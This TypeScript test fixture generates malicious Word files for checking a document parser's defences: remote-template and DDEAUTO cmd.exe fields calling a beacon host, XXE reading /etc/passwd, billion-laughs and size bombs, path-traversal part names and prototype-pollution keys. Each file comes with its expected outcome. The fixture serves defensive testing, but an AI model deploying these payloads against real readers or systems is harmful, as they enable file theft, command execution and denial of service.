import { buildWordFile, paragraph, run } from './buildWordFile.ts';
import type { HostileFile } from './hostileFiles.ts';

/** Word files made to run code, to call home, to stall or to break whoever opens them. */
export function hostileWordFiles(beacon: string): readonly HostileFile[] {
  const words = 'The ministry said on Sunday that 48 people were still being held.';
  const shown = { text: words };
  const body = paragraph(words);
  const whole = buildWordFile({ body });
  const outside = (type: string) =>
    `<Relationship Id="${type}" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/${type}" Target="${beacon}/${type}" TargetMode="External"/>`;
  const inDocument = (head: string, inner: string) =>
    buildWordFile({
      parts: {
        'word/document.xml': `<?xml version="1.0"?>${head}<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body>${inner}</w:body></w:document>`,
      },
    });
  const laughs = Array.from({ length: 30 }, (_, index) => `<!ENTITY a${index + 1} "${`&a${index};`.repeat(10)}">`).join(
    '',
  );
  const file = (name: string, content: Uint8Array, expected: HostileFile['expected']) => ({ name, content, expected });
  return [
    file(
      'external-template.docx',
      buildWordFile({
        body: `${body}<w:altChunk r:id="aFChunk"/>`,
        settings: '<w:attachedTemplate r:id="attachedTemplate"/>',
        settingsRelationships: outside('attachedTemplate'),
        relationships: ['image', 'oleObject', 'frame', 'subDocument', 'aFChunk', 'header'].map(outside).join(''),
      }),
      shown,
    ),
    file(
      'calling-fields.docx',
      buildWordFile({
        body: `<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>DDEAUTO c:\\\\cmd.exe "${beacon}" INCLUDEPICTURE "${beacon}"</w:instrText></w:r><w:r><w:fldChar w:fldCharType="separate"/></w:r>${run(words)}<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>`,
      }),
      shown,
    ),
    file(
      'macro.docm',
      buildWordFile({
        body,
        relationships:
          '<Relationship Id="v" Type="http://schemas.microsoft.com/office/2006/relationships/vbaProject" Target="vbaProject.bin"/>',
        parts: { 'word/vbaProject.bin': Uint8Array.of(0xd0, 0xcf, 0x11, 0xe0) },
      }),
      shown,
    ),
    file(
      'climbing-names.docx',
      buildWordFile({
        body,
        relationships:
          '<Relationship Id="s" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/styles" Target="../../../../etc/passwd"/>',
        parts: { '../../../etc/passwd': 'root:x', 'C:\\evil.xml': '<x/>' },
      }),
      shown,
    ),
    file('document-bomb.docx', buildWordFile({ body: paragraph(' '.repeat(60_000_000)) }), { code: 'file-too-large' }),
    file('unread-bomb.docx', buildWordFile({ body, parts: { 'word/media/a.bin': new Uint8Array(50_000_000) } }), shown),
    file(
      'billion-laughs.docx',
      inDocument(`<!DOCTYPE w [<!ENTITY a0 "ha">${laughs}]>`, '<w:p><w:r><w:t>&a30;</w:t></w:r></w:p>'),
      { code: 'file-broken' },
    ),
    file(
      'outside-entity.docx',
      inDocument('<!DOCTYPE w [<!ENTITY x SYSTEM "file:///etc/passwd">]>', '<w:p><w:r><w:t>&x;</w:t></w:r></w:p>'),
      { code: 'file-broken' },
    ),
    file('outside-dtd.docx', inDocument(`<!DOCTYPE w SYSTEM "${beacon}/w.dtd">`, body), { code: 'file-broken' }),
    file('deep.docx', buildWordFile({ body: '<w:sdt>'.repeat(50_000) }), { code: 'file-broken' }),
    file(
      'deep-tables.docx',
      buildWordFile({ body: `${'<w:tbl><w:tr><w:tc>'.repeat(600)}${body}${'</w:tc></w:tr></w:tbl>'.repeat(600)}` }),
      shown,
    ),
    file(
      'long-name.docx',
      inDocument('', `<w:p ${Array.from({ length: 20_000 }, (_, index) => `a${index}="1"`).join(' ')}/>${body}`),
      shown,
    ),
    file(
      'open-fields.docx',
      buildWordFile({ body: body + '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r></w:p>'.repeat(20_000) }),
      shown,
    ),
    file(
      'many-changes.docx',
      buildWordFile({ body: `<w:p>${`<w:ins w:id="1">${run('x')}</w:ins>`.repeat(50_000)}</w:p>${body}` }),
      shown,
    ),
    file(
      'style-circle.docx',
      buildWordFile({
        body: paragraph(words, '<w:pStyle w:val="a"/>'),
        styles: '<w:style w:styleId="a" w:type="paragraph"><w:basedOn w:val="a"/></w:style>',
      }),
      shown,
    ),
    file(
      'huge-list-number.docx',
      buildWordFile({
        body: paragraph(words, '<w:numPr><w:ilvl w:val="0"/><w:numId w:val="1"/></w:numPr>'),
        numbering:
          '<w:abstractNum w:abstractNumId="0"><w:lvl w:ilvl="0"><w:start w:val="999999999"/><w:numFmt w:val="lowerLetter"/><w:lvlText w:val="%1"/></w:lvl></w:abstractNum><w:num w:numId="1"><w:abstractNumId w:val="0"/></w:num>',
      }),
      shown,
    ),
    file('truncated.docx', whole.subarray(0, whole.length - 300), { code: 'file-broken' }),
    file('no-parts.docx', Uint8Array.from(Buffer.from(`PK\x05\x06${'\0'.repeat(18)}`, 'latin1')), {
      code: 'file-broken',
    }),
    file('locked.docx', Uint8Array.from(Buffer.from(`\xd0\xcf\x11\xe0${'\0'.repeat(600)}`, 'latin1')), {
      code: 'file-encrypted',
    }),
    file(
      'prototype.docx',
      buildWordFile({
        body: `<w:__proto__ w:constructor="x"/>${paragraph(words, '<w:pStyle w:val="__proto__"/><w:numPr><w:numId w:val="constructor"/></w:numPr>')}`,
      }),
      shown,
    ),
  ];
}
